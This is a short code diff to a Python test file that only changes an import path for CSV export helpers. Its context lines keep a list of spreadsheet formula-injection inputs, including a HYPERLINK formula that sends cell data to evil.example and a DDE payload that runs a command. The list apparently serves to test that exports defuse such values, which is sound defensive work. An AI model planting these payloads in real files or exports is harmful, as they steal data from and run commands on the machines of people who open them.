@@ -8,7 +8,7 @@ import csv
 import duckdb
 import pytest
 
-from basismonitor.publish import _columns, _ordered, _write_csv, _write_dutch_csv
+from basismonitor.publish.exports import _columns, _ordered, _write_csv, _write_dutch_csv
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0",
              "+31 50 123", "-2+3", "\tTab", "\rCR"]
